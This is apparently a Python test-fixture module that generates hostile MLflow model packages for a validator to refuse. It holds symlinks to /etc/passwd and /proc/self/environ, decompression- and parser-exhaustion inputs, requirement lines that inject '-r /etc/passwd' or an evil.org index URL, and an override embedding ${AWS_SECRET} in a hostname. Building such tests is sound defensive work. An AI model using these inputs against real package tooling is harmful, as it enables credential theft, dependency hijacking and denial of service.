"""Models of attackers: each a directory here, or made by a function below.

A directory holds one case in files that git can keep. What git cannot keep (pipes,
devices, loops of links, sparse files, names that are no UTF-8) or should not (megabytes)
is made by the function of its name in `MADE`. `OVERRIDES` are requirements a caller
gives. Every case is refused, but those of `tamed` names: they ask for what the profile
`dev` allows, and what is dangerous in them is taken away.
"""

from __future__ import annotations

import os
import shutil
import socket
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).parent
CANARY = "canary-"
# Outside every model; read by whoever follows a link to it.
SECRET = "secret.txt"
MLMODEL = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
MIB = 1 << 20


def names() -> list[str]:
    """Return the name of every case."""
    kept = [entry.name for entry in HERE.iterdir() if (entry / "MLmodel").exists()]
    return sorted([*kept, *MADE, *SLOW, *OVERRIDES])


def is_tamed(name: str) -> bool:
    return name.startswith("tamed_")


def made(name: str, folder: Path) -> Path:
    """Make the model of the case *name* in *folder*, beside a secret, and return it."""
    model = folder / name / "model"
    model.parent.mkdir(parents=True)
    (model.parent / SECRET).write_text(f"{CANARY}in-a-file\n")
    if (HERE / name).is_dir():
        shutil.copytree(HERE / name, model, symlinks=True)
        return model
    model.mkdir()
    (model / "MLmodel").write_text(MLMODEL)
    (model / "requirements.txt").write_text("six\n")
    if make := (MADE | SLOW).get(name):
        make(model)
    return model


def _mlmodel(more: str) -> Callable[[Path], None]:
    return lambda model: _write(model / "MLmodel", f"{MLMODEL}    {more}\n")


def _requirements(content: str | bytes) -> Callable[[Path], None]:
    return lambda model: _write(model / "requirements.txt", content)


def _file(name: str, content: str | bytes) -> Callable[[Path], None]:
    def made(model: Path) -> None:
        if name == "conda.yaml":  # which says nothing beside it
            (model / "requirements.txt").unlink()
        _write(model / name, content)

    return made


def _link(name: str, target: str, more: str = "") -> Callable[[Path], None]:
    def made(model: Path) -> None:
        (model / name).unlink(missing_ok=True)
        (model / name).parent.mkdir(parents=True, exist_ok=True)
        (model / name).symlink_to(target)
        _with(model, more)

    return made


def _pipe(name: str, more: str = "") -> Callable[[Path], None]:
    def made(model: Path) -> None:
        (model / name).unlink(missing_ok=True)
        (model / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(model / name)
        _with(model, more)

    return made


def _socket(name: str, more: str = "") -> Callable[[Path], None]:
    def made(model: Path) -> None:
        (model / name).unlink(missing_ok=True)
        with socket.socket(socket.AF_UNIX) as one:
            # The whole path may be longer than an address can be.
            folder = os.open(model, os.O_RDONLY)
            one.bind(f"/proc/self/fd/{folder}/{name}")
            os.close(folder)
        _with(model, more)

    return made


def _sparse(name: str, size: int, more: str = "") -> Callable[[Path], None]:
    def made(model: Path) -> None:
        (model / name).parent.mkdir(parents=True, exist_ok=True)
        (model / name).write_bytes(b"")
        os.truncate(model / name, size)
        _with(model, more)

    return made


def _directory(name: str, more: str = "") -> Callable[[Path], None]:
    def made(model: Path) -> None:
        (model / name).unlink(missing_ok=True)
        (model / name).mkdir(parents=True)
        _with(model, more)

    return made


def _with(model: Path, more: str) -> None:
    """Add a line to the `MLmodel` (`key: value`) or, else, to the requirements."""
    if not more:
        return
    if more.startswith(("code:", "data:", "env:")):
        _mlmodel(more)(model)
    else:
        _write(model / "requirements.txt", f"six\n{more}\n")


def _write(path: Path, content: str | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def _many_files(model: Path) -> None:
    (model / "files").mkdir()
    folder = os.open(model / "files", os.O_RDONLY)
    for number in range(100_100):
        os.mknod(str(number), dir_fd=folder)
    os.close(folder)


def _many_directories(model: Path) -> None:
    (model / "folders").mkdir()
    folder = os.open(model / "folders", os.O_RDONLY)
    for number in range(100_100):
        os.mkdir(str(number), dir_fd=folder)
    os.close(folder)


def _many_directories_in_a_tree(model: Path) -> None:
    (model / "pkg").mkdir()
    for number in range(10_100):
        (model / "pkg" / str(number)).mkdir()
    _with(model, "./pkg")


def _deep_directories(name: str, more: str = "") -> Callable[[Path], None]:
    def made(model: Path) -> None:
        (model / name).mkdir()
        folder = os.open(model / name, os.O_RDONLY)
        for _ in range(3_000):  # a path of 6,000 characters: no call takes it whole
            os.mkdir("d", dir_fd=folder)
            inner = os.open("d", os.O_RDONLY, dir_fd=folder)
            os.close(folder)
            folder = inner
        os.close(os.open("evil.py", os.O_CREAT, dir_fd=folder))
        os.close(folder)
        _with(model, more)

    return made


def _wide_code(model: Path) -> None:
    """Sparse files cost the attacker nothing, and the reader 4 GiB to hash."""
    _mlmodel("code: code")(model)
    (model / "code").mkdir()
    for number in range(4_000):
        _sparse(f"code/{number}.py", MIB)(model)
    _requirements("-r nothing.txt")(model)


def _names_of_bytes(model: Path) -> None:
    (model / "wheels").mkdir()
    os.mkfifo(os.fsencode(model) + b"/wheels/\xff\xfe-1.0-py3-none-any.whl")
    _with(model, "--find-links wheels")


def _tree_of_bytes(model: Path) -> None:
    (model / "pkg").mkdir()
    os.mkfifo(os.fsencode(model) + b"/pkg/\xff\x1b[31m\nevil")
    _with(model, "./pkg")


def _linked_wheels(model: Path) -> None:
    (model / "wheels").mkdir()
    (model / "wheels" / "six-1.0-py3-none-any.whl").symlink_to("/etc/passwd")
    _with(model, "--find-links wheels")


def _tree_with(target: str) -> Callable[[Path], None]:
    def made(model: Path) -> None:
        _write(model / "pkg" / "setup.cfg", "[metadata]\nname = six\n")
        (model / "pkg" / "evil").symlink_to(target)
        _with(model, "./pkg")

    return made


def _same_tree_often(model: Path) -> None:
    _sparse("pkg/data", 100 * MIB)(model)
    _requirements("./pkg\n" * 1_000)(model)


def _many_trees(model: Path) -> None:
    for number in range(200):
        _sparse(f"pkg{number}/data", 150 * MIB)(model)
    _requirements("".join(f"./pkg{number}\n" for number in range(200)))(model)


def _same_links_often(model: Path) -> None:
    _sparse("wheels/six-1.0-py3-none-any.whl", 100 * MIB)(model)
    _requirements("--find-links wheels\n" * 1_000)(model)


def _many_small_files(model: Path) -> None:
    for number in range(3_000):
        _write(model / "pkg" / f"{number}.py", "")
    _requirements("./pkg\n./pkg/../pkg\n-e pkg/.\n" * 300)(model)


def _case_clash(model: Path) -> None:
    _write(model / "a.txt", "-r A.txt\n")
    _write(model / "A.txt", "-r a.txt\n")
    _with(model, "-r a.txt")


def _large_includes(model: Path) -> None:
    line = "six>1" + ",>1" * 100 + "\n"
    for number in range(90):
        _write(model / f"{number}.txt", line * (MIB // len(line)))
    _requirements("".join(f"-r {number}.txt\n" for number in range(90)) + "!")(model)


def _sparse_device(name: str, more: str = "") -> Callable[[Path], None]:
    def made(model: Path) -> None:
        (model / name).unlink(missing_ok=True)
        try:
            os.mknod(model / name, 0o666 | 0o020000, os.makedev(1, 5))  # what /dev/zero is
        except PermissionError:  # only root makes devices; a link to one is as good
            (model / name).symlink_to("/dev/zero")
        _with(model, more)

    return made


_HASH = "a" * 64
# For both formats: each calls the hash by a name of its own.
_LOCKED = f"""version = "1"
wheels = [{{url = "https://h/a.whl", hash = "sha256:{_HASH}", hashes = {{sha256 = "{_HASH}"}}}}]
"""


def _pylock(packages: list[str], head: str = "", asked: str = "six") -> Callable[[Path], None]:
    """Write a lock of six, mlflow and *packages*, each with more lines of its own."""

    def made(model: Path) -> None:
        _requirements(asked)(model)
        names = ["six", "mlflow", *(f"p{number}" for number in range(len(packages)))]
        tables = [
            f'[[packages]]\nname = "{name}"\n{more}\n{_LOCKED}'
            for name, more in zip(names, ["", "", *packages], strict=True)
        ]
        _write(model / "pylock.toml", f'lock-version = "1.0"\n{head}\n{"".join(tables)}')

    return made


def _uvlock(markers: list[str]) -> Callable[[Path], None]:
    """Write a lock of a project that asks for six under each of *markers*."""
    edges = "".join(f'{{name = "six", marker = "{marker}"}}, ' for marker in markers)
    # Without mlflow the lock would be refused for that.
    asked = f'{edges}{{name = "mlflow"}}'
    project = f'name = "p"\nsource = {{virtual = "."}}\ndependencies = [{asked}]\n'
    packages = "".join(
        f'[[package]]\nname = "{name}"\nsource = {{registry = "https://pypi.org/simple"}}\n{_LOCKED}'
        for name in ("six", "mlflow")
    )
    return _file("uv.lock", f"version = 1\n[[package]]\n{project}{packages}")


def _markers(count: int, size: int) -> list[str]:
    """Return markers of about *size* characters that differ, take long, and do not hold."""
    more = "or((((os_name<''))))" * ((size - 15) // 20)
    return [f"os_name=='{number:04}'{more}" for number in range(count)]


_BOMB = "six-1.0-" + "-".join(".".join(f"{kind}{n}" for n in range(3_000)) for kind in "xyz")

MADE: dict[str, Callable[[Path], None]] = {
    # Paths, and what they lead to.
    "mlmodel_is_a_link_out": _link("MLmodel", f"../{SECRET}"),
    "mlmodel_is_a_link_to_etc_passwd": _link("MLmodel", "/etc/passwd"),
    "mlmodel_is_a_link_to_itself": _link("MLmodel", "MLmodel"),
    "mlmodel_is_a_link_to_nothing": _link("MLmodel", "nothing"),
    "mlmodel_is_a_pipe": _pipe("MLmodel"),
    "mlmodel_is_a_socket": _socket("MLmodel"),
    "mlmodel_is_a_device": _sparse_device("MLmodel"),
    "mlmodel_is_a_directory": _directory("MLmodel"),
    "mlmodel_is_sparse_of_10_gb": _sparse("MLmodel", 10**10),
    "code_is_a_link_out": _link("code", "..", "code: code"),
    "code_is_a_link_to_etc": _link("code", "/etc", "code: code"),
    "code_is_a_loop_of_links": _link("code/inner", "../code/inner", "code: code/inner"),
    "code_holds_gigabytes": _wide_code,
    "data_is_a_link_to_proc": _link("data", "/proc/self/environ", "data: data"),
    "data_is_a_link_to_a_link_out": _link("data", "requirements/../../../secret", "data: data"),
    "conda_is_a_link_to_etc_passwd": _link("conda.yaml", "/etc/passwd"),
    "conda_is_a_link_out": _link("conda.yaml", f"../{SECRET}"),
    "conda_is_a_pipe": _pipe("conda.yaml"),
    "conda_is_a_pipe_of_another_name": _pipe("env.yaml", "env: {conda: env.yaml}"),
    "python_env_is_a_device": _sparse_device("python_env.yaml"),
    "python_env_is_a_socket": _socket("python_env.yaml"),
    "python_env_is_a_directory": _directory("python_env.yaml"),
    "python_env_is_sparse_of_10_gb": _sparse("python_env.yaml", 10**10),
    "requirements_are_a_link_to_etc_passwd": _link("requirements.txt", "/etc/passwd"),
    "requirements_are_a_link_out": _link("requirements.txt", f"../{SECRET}"),
    "requirements_are_a_loop_of_links": _link("requirements.txt", "./requirements.txt"),
    "requirements_are_a_pipe": _pipe("requirements.txt"),
    "requirements_are_a_device": _sparse_device("requirements.txt"),
    "requirements_are_a_directory": _directory("requirements.txt"),
    "requirements_are_sparse_of_10_gb": _sparse("requirements.txt", 10**10),
    "requirements_include_a_link_out": _link("more.txt", f"../{SECRET}", "-r more.txt"),
    "requirements_include_a_pipe": _pipe("more.txt", "-r more.txt"),
    "requirements_include_a_directory": _directory("more", "-r more"),
    "requirements_include_clashes_in_case": _case_clash,
    "requirements_constrain_by_a_link_out": _link("more.txt", "/etc/passwd", "-c more.txt"),
    "requirements_wheel_is_a_link_out": _link(
        "six-1.0-py3-none-any.whl", "/etc/passwd", "./six-1.0-py3-none-any.whl"
    ),
    "requirements_wheel_is_a_pipe": _pipe("six-1.0-py3-none-any.whl", "./six-1.0-py3-none-any.whl"),
    "requirements_wheel_is_a_device": _sparse_device(
        "six-1.0-py3-none-any.whl", "./six-1.0-py3-none-any.whl"
    ),
    "requirements_wheel_is_sparse_of_10_gb": _sparse(
        "six-1.0-py3-none-any.whl", 10**10, "./six-1.0-py3-none-any.whl"
    ),
    "requirements_find_links_is_a_link_out": _link("wheels", "/etc", "--find-links wheels"),
    "requirements_find_links_holds_a_link_out": _linked_wheels,
    "requirements_find_links_holds_a_name_of_bytes": _names_of_bytes,
    "requirements_find_links_is_read_often": _same_links_often,
    "requirements_tree_is_a_link_out": _link("pkg", "/etc", "./pkg"),
    "requirements_tree_holds_a_link_to_etc": _tree_with("/etc"),
    "requirements_tree_holds_a_link_to_etc_passwd": _tree_with("/etc/passwd"),
    "requirements_tree_holds_a_loop_of_links": _tree_with("../pkg"),
    "requirements_tree_holds_a_pipe": _pipe("pkg/pipe", "-e ./pkg"),
    "requirements_tree_holds_a_name_of_bytes": _tree_of_bytes,
    "requirements_tree_is_the_model_with_10_gb": _sparse("model.pkl", 10**10, "-e ."),
    "requirements_tree_is_deep": _deep_directories("pkg", "./pkg"),
    "requirements_tree_holds_10100_directories": _many_directories_in_a_tree,
    "requirements_trees_are_many": _many_trees,
    "model_of_deep_directories": _deep_directories("files", "-r nothing.txt"),
    # Sizes.
    "yaml_of_1_mib_and_1": _file("conda.yaml", b"dependencies: [six]".ljust(MIB + 1)),
    "yaml_of_10001_events": _file("conda.yaml", "dependencies:\n" + "- six\n" * 10_001),
    "yaml_of_one_mib_of_brackets": _file("conda.yaml", "[" * MIB),
    "yaml_of_one_mib_of_braces": _file("conda.yaml", "{a: " * (MIB // 4)),
    "yaml_of_one_mib_of_dashes": _file("conda.yaml", "- " * (MIB // 2)),
    "yaml_of_one_mib_of_question_marks": _file("conda.yaml", "? " * (MIB // 2)),
    "yaml_of_one_mib_of_anchors": _file("conda.yaml", "a: " + "&a " * (MIB // 3 - 1)),
    "yaml_of_one_mib_of_ends": _file("conda.yaml", "---\n...\n" * (MIB // 8)),
    "yaml_key_of_500000_twice": _file("conda.yaml", ("k" * 500_000 + ": 1\n") * 2),
    "yaml_alias_of_500000": _file("conda.yaml", f"a: &{'x' * 500_000} 1\nb: *{'x' * 500_000}"),
    "yaml_tag_of_500000": _file("conda.yaml", f"a: !{'x' * 500_000} 1\n"),
    "yaml_flavors_of_1000000_characters": _file("MLmodel", f"flavors: {{{'x' * 1_000_000}: 1}}"),
    "yaml_mlflow_version_of_100000_digits": _file(
        "MLmodel", f"mlflow_version: {'9' * 100_000}.x\n{MLMODEL}    code: ..\n"
    ),
    "yaml_is_binary": _file("conda.yaml", bytes(range(256)) * 100),
    "yaml_is_of_nuls": _file("conda.yaml", bytes(1_000)),
    "yaml_holds_a_nul": _file("conda.yaml", "dependencies: [six\0]\n"),
    "yaml_is_utf16": _file("conda.yaml", "dependencies: [six]\n".encode("utf-16")),
    "yaml_is_latin1": _file("conda.yaml", "dependencies: [s\xefx]\n".encode("latin-1")),
    "yaml_text_of_a_mib": _file("conda.yaml", "dependencies: [{pip: ['" + "x" * 10**6 + "']}]"),
    "yaml_path_of_a_mib": _mlmodel("data: " + "x/" * 500_000),
    "conda_match_spec_of_a_mib": _file("conda.yaml", f"dependencies: ['a::{'x:' * 500_000}']"),
    "conda_match_spec_of_blanks": _file(
        "conda.yaml", f"dependencies: ['x{' ' * 1_000_000}!', 'y{' ' * 30_000}z']"
    ),
    "conda_version_of_100000_digits": _file("conda.yaml", f"dependencies: ['x={'9' * 60_000}']"),
    "requirements_line_of_65537": _requirements("a" * 65_537),
    "requirements_name_of_1000000": _requirements("a" * 1_000_000),
    "requirements_name_of_60000": _requirements("a" * 60_000),
    "requirements_of_1_mib_and_1": _requirements("#" * (MIB + 1)),
    "requirements_of_50001_lines": _requirements("six\n" * 50_001),
    "requirements_of_50000_lines": _requirements("six\n" * 49_999 + "!"),
    "requirements_of_many_names": _requirements(
        "".join(f"a{number}\n" for number in range(49_999)) + "!"
    ),
    "requirements_of_one_mib_of_specifiers": _requirements(
        ("six>1" + ",>1" * 21_000 + "\n") * 16 + "!"
    ),
    "requirements_of_90_mib": _large_includes,
    "requirements_line_joined_20000_times": _requirements("six\\\n" * 20_000 + "!"),
    "requirements_blanks_before_a_comment": _requirements("six" + " " * 200_000 + "!# why"),
    "requirements_blanks_before_a_comment_that_is_none": _requirements("six" + " " * 60_000 + "x#"),
    "requirements_blanks_after_a_name": _requirements(f"six{' ' * 65_000}!"),
    "requirements_blanks_after_extras": _requirements(f"six[a]{' ' * 65_000}!"),
    "requirements_blanks_before_a_place": _requirements(f"six{' ' * 65_000}@"),
    "requirements_blanks_in_extras": _requirements(f"six[{' ' * 65_000}@"),
    "requirements_blanks_after_an_option": _requirements(f"-r{' ' * 65_000}\x00"),
    "requirements_blanks_after_an_option_in_yaml": _file(
        "python_env.yaml", f'dependencies: ["-r{" " * 60_000}\\nx"]\n'
    ),
    "requirements_version_of_5000_digits": _requirements(f"six=={'9' * 5_000}"),
    "requirements_version_like_a_regex_bomb": _requirements(f"six=={'1.' * 30_000}!"),
    "requirements_version_of_zeros": _requirements(f"six=={'0.' * 30_000}x.*"),
    "requirements_version_of_posts": _requirements("six==1" + ".post1" * 10_000),
    "requirements_local_version_of_dots": _requirements("six==1+" + "a." * 30_000),
    "requirements_marker_of_10000_parentheses": _requirements(
        "six; " + "(" * 10_000 + "os_name == 'nt'" + ")" * 10_000
    ),
    "requirements_marker_of_150_parentheses": _requirements(
        "six; " + "(" * 150 + "os_name == 'nt'" + ")" * 150
    ),
    "requirements_marker_of_many_parts": _requirements(
        "six; " + "os_name == 'nt' and " * 3_000 + "!"
    ),
    "requirements_marker_of_open_quotes": _requirements("six; " + "'" * 60_001),
    "requirements_extras_of_60000": _requirements("six[" + "a," * 30_000 + "!]"),
    "requirements_brackets_of_60000": _requirements("[" * 60_000),
    "requirements_variables_that_never_end": _requirements("${" * 32_000),
    "requirements_hashes_without_end": _requirements("six" + " --hash=sha256:" * 4_000 + " !"),
    "requirements_hash_with_a_nul": _requirements("six --hash=sha256:00\0"),
    "requirements_url_of_60000": _requirements(
        f"six @ https://example.org/{'a/' * 30_000}six-1.0-py3-none-any.whl"
    ),
    "requirements_url_of_60000_colons": _requirements("six @ " + "https://" * 8_000),
    "requirements_fragment_of_60000": _requirements(f"git+https://a.org/b#{'egg=a&' * 10_000}x=1"),
    "requirements_wheel_of_27000000000_tags": _requirements(f"https://example.org/{_BOMB}.whl"),
    "requirements_wheel_of_a_build_of_5000_digits": _requirements(
        f"https://example.org/six-1.0-{'1' * 5_000}-py3-none-any.whl"
    ),
    "requirements_archive_of_a_version_of_5000_digits": _requirements(
        f"https://example.org/six-{'9' * 5_000}.tar.gz#subdirectory=.."
    ),
    "requirements_url_with_credentials_of_60000": _requirements(
        f"six == https://user:{CANARY}{'x' * 50_000}@example.org"
    ),
    "requirements_are_utf16": _requirements("six\n".encode("utf-16")),
    "requirements_are_latin1": _requirements("s\xefx\n".encode("latin-1")),
    "requirements_are_binary": _requirements(bytes(range(256)) * 1_000),
    "requirements_hold_a_nul": _requirements("six\0==1.0\n"),
    "requirements_hold_an_escape": _requirements("six\x1b[2J\x1b]0;evil\x07\n"),
    "requirements_hold_a_direction": _requirements("six\u202e==1.0\n"),
    # Locks.
    "pylock_is_a_link_to_etc_passwd": _link("pylock.toml", "/etc/passwd"),
    "pylock_is_a_link_out": _link("pylock.toml", f"../{SECRET}"),
    "pylock_is_a_pipe": _pipe("pylock.toml"),
    "pylock_is_a_directory": _directory("pylock.toml"),
    "pylock_is_sparse_of_10_gb": _sparse("pylock.toml", 10**10),
    "pylock_of_8_mib_and_1": _file(
        "pylock.toml", b'lock-version = "1.0"\ncreated-by = "evil"\n'.ljust(8 * MIB + 1, b"#")
    ),
    "pylock_is_binary": _file("pylock.toml", bytes(range(256)) * 100),
    "pylock_of_8_mib_of_brackets": _file("pylock.toml", "x = " + "[" * (8 * MIB - 5)),
    "pylock_of_8_mib_of_keys": _file(
        "pylock.toml", "".join(f"a{number} = 1\n" for number in range(600_000)) + "!"
    ),
    "pylock_of_dotted_keys": _file("pylock.toml", ".".join("a" * 500_000) + " = 1\n"),
    "pylock_of_deep_tables": _file("pylock.toml", "[" + ".".join("a" * 100_000) + "]\n" * 2),
    "uvlock_is_a_link_to_etc_passwd": _link("uv.lock", "/etc/passwd"),
    "uvlock_is_a_pipe": _pipe("uv.lock"),
    "uvlock_is_sparse_of_10_gb": _sparse("uv.lock", 10**10),
    "uvlock_of_8_mib_and_1": _file("uv.lock", b"version = 1\n".ljust(8 * MIB + 1, b"#")),
    "uvlock_is_latin1": _file("uv.lock", "version = '\xef'\n".encode("latin-1")),
    "pylock_text_of_escapes": _file("pylock.toml", 'x = "' + "\\\\" * 1_200_000 + '"\n'),
    "pylock_escapes_that_never_end": _file("pylock.toml", '"\\' * 500_000),
    "pylock_markers_of_60000": _pylock([f'marker = "{one}"' for one in _markers(44, 60_000)]),
    "pylock_markers_of_150_kib": _pylock([f'marker = "{one}"' for one in _markers(40, 3_900)]),
    "pylock_environments_of_4200_kinds": _pylock([], f"environments = {_markers(4_200, 15)}"),
    "pylock_environments_of_60000": _pylock([], f"environments = {_markers(44, 60_000)}"),
    "pylock_environments_of_150_kib": _pylock([], f"environments = {_markers(40, 3_900)}"),
    "pylock_requires_python_of_60000": _pylock(
        [f'requires-python = ">{number}{",!=1.*" * 10_000}"' for number in range(44)]
    ),
    "pylock_requires_python_of_40_kib": _pylock(
        [f'requires-python = ">{number}{",!=1.*" * 80}"' for number in range(80)]
    ),
    "pylock_beside_a_marker_that_compares_no_versions": _pylock(
        [], asked='six ; os_name ~= "posix"\n'
    ),
    "pylock_beside_a_marker_of_extras": _pylock([], asked='six ; "a" in extras\n'),
    "pylock_beside_a_marker_of_groups": _pylock([], asked='six ; "d" in dependency_groups\n'),
    "pylock_archive_with_a_query": _pylock(
        [],
        asked="six\n",
        head=(
            f'packages = [{{name = "six", archive = {{url = "https://h/six-1.zip?sig={CANARY}", '
            f'hashes = {{sha256 = "{"a" * 64}"}}}}}}]\n[tool]\n'
        ),
    ),
    "uvlock_markers_of_60000": _uvlock(_markers(44, 60_000)),
    "uvlock_markers_of_150_kib": _uvlock(_markers(40, 3_900)),
    # URLs that are secrets.
    "requirements_url_with_a_query": _requirements(
        f"six @ https://h/six-1.0-py3-none-any.whl?sig={CANARY}"
    ),
    "requirements_bare_url_with_a_query": _requirements(
        f"https://h/six-1.0-py3-none-any.whl?sig={CANARY}#sha256={'a' * 64}"
    ),
    "requirements_git_with_a_query": _requirements(f"git+https://h/six?token={CANARY}"),
    "requirements_index_with_a_query": _requirements(
        f"six\n--index-url https://h/simple?token={CANARY}"
    ),
    "requirements_extra_index_with_a_query": _requirements(
        f"six\n--extra-index-url https://h/simple?token={CANARY}"
    ),
    "requirements_find_links_with_a_query": _requirements(
        f"six\n--find-links https://h/page?token={CANARY}"
    ),
    # What looks like an attack and is only read.
    "tamed_pylock_of_all_the_markers_there_may_be": _pylock(
        [f'marker = "{one}"' for one in _markers(33, 3_900)]
    ),
    "tamed_uvlock_of_all_the_markers_there_may_be": _uvlock(
        _markers(16, 3_900) + _markers(4_000, 15) * 5
    ),
    "tamed_date_of_the_last_year": _file("MLmodel", f"utc_time_created: '9999-12-31'\n{MLMODEL}"),
    "tamed_date_of_the_first_year": _file("MLmodel", f"utc_time_created: '0001-01-01'\n{MLMODEL}"),
    "tamed_tree_of_many_files_is_read_often": _many_small_files,
    "tamed_tree_is_read_often": _same_tree_often,
    "conda_python_of_100000_digits": _file("conda.yaml", f"dependencies: [python={'9' * 100_000}]"),
    "conda_library_of_a_mib": _file("conda.yaml", f"dependencies: [lib{'x' * 10**6}]"),
    "tamed_hard_link": lambda model: os.link(model / "requirements.txt", model.parent / "other"),
    "tamed_mlflow_version_of_5000_digits": _file(
        "MLmodel", f"mlflow_version: {'9' * 5_000}\n{MLMODEL}"
    ),
    "tamed_code_holds_a_link_to_a_secret": _link("code/a.py", f"../../{SECRET}", "code: code"),
    "tamed_code_holds_a_link_to_a_device": _link("code/a.py", "/dev/zero", "code: code"),
    "tamed_artifact_is_a_pipe": _pipe("model.pkl"),
    "tamed_artifact_is_sparse_of_10_gb": _sparse("model.pkl", 10**10),
    "tamed_constraints_are_a_link_to_a_secret": _link("constraints.txt", f"../{SECRET}"),
    "tamed_artifact_of_a_name_of_bytes": lambda model: os.mknod(
        os.fsencode(model) + b"/\xff\xfe\n.pkl"
    ),
}

# Ten seconds each to make and to take away.
SLOW: dict[str, Callable[[Path], None]] = {
    "model_of_100100_files": _many_files,
    "model_of_100100_directories": _many_directories,
}

# These take long, and each stops at a limit that no profile changes: read under `dev`, and
# with `--slow` under the others.
COSTLY = {
    "code_holds_gigabytes",
    "pylock_environments_of_60000",
    "pylock_escapes_that_never_end",
    "pylock_markers_of_60000",
    "pylock_requires_python_of_60000",
    "pylock_text_of_escapes",
    "requirements_include_fan_out",
    "requirements_of_50000_lines",
    "requirements_of_90_mib",
    "requirements_of_many_names",
    "requirements_tree_holds_10100_directories",
    "requirements_trees_are_many",
    "tamed_tree_is_read_often",
    "tamed_tree_of_many_files_is_read_often",
    "tamed_uvlock_of_all_the_markers_there_may_be",
    "uvlock_markers_of_60000",
    "yaml_path_of_a_mib",
}

_AT = "https://user:canary-in-an-override@example.org"

OVERRIDES: dict[str, tuple[str, ...]] = {
    "override_includes_etc_passwd": ("-r /etc/passwd",),
    "override_includes_after_a_separator": ("\x1c-r /etc/passwd",),
    "override_is_an_index": ("--index-url https://evil.org/simple",),
    "override_is_editable": ("-e file:///etc",),
    "override_injects_a_line": ("six\n--index-url https://evil.org/simple",),
    "override_injects_a_line_by_a_carriage_return": ("six\r-r /etc/passwd",),
    "override_injects_a_line_by_a_separator": ("six\u2028-r /etc/passwd",),
    "override_injects_a_line_in_a_marker": ("six; python_version > '3\\n-r /etc/passwd'",),
    "override_is_a_path": ("./six-1.0-py3-none-any.whl",),
    "override_is_a_named_path": ("six @ ./six-1.0-py3-none-any.whl",),
    "override_is_an_absolute_path": ("/etc/passwd",),
    "override_is_a_file_url": ("six @ file:///etc/six-1.0-py3-none-any.whl",),
    "override_is_a_git_file": ("six @ git+file:///srv/repo",),
    "override_names_a_secret": ("six @ https://${AWS_SECRET}.example.org/six-1.0.zip",),
    "override_has_no_name": ("git+https://example.org/repo",),
    "override_has_options": ("six --global-option=evil",),
    "override_with_credentials": (f"six == {_AT}/simple",),
    "override_with_credentials_and_a_newline": (f"six @ {_AT}/six.zip\nx",),
    "override_is_empty": ("",),
    "override_with_a_query": (f"six @ https://h/six-1.0-py3-none-any.whl?sig={CANARY}",),
    "override_of_a_marker_of_extras": ("six ; 'a' in extras",),
    "override_is_blank": (" \t",),
    "override_holds_a_nul": ("six\0",),
    "override_of_bytes": ("six\udcff",),
    "override_of_bytes_in_a_marker": ("six; python_version > '\udcff'",),
    "override_of_a_mib_of_blanks": (f"six{' ' * MIB}@",),
    "override_of_10_mib": ("x" * 10 * MIB,),
    "overrides_of_1001": ("six",) * 1_001,
    "overrides_of_1000_long_ones": ("six>1" + ",>1" * 20_000,) * 1_000,
    "overrides_where_the_last_is_none": ("six", "numpy", "-r requirements.txt"),
    "tamed_override_with_credentials": (f"six @ {_AT}/six-1.0-py3-none-any.whl",),
}
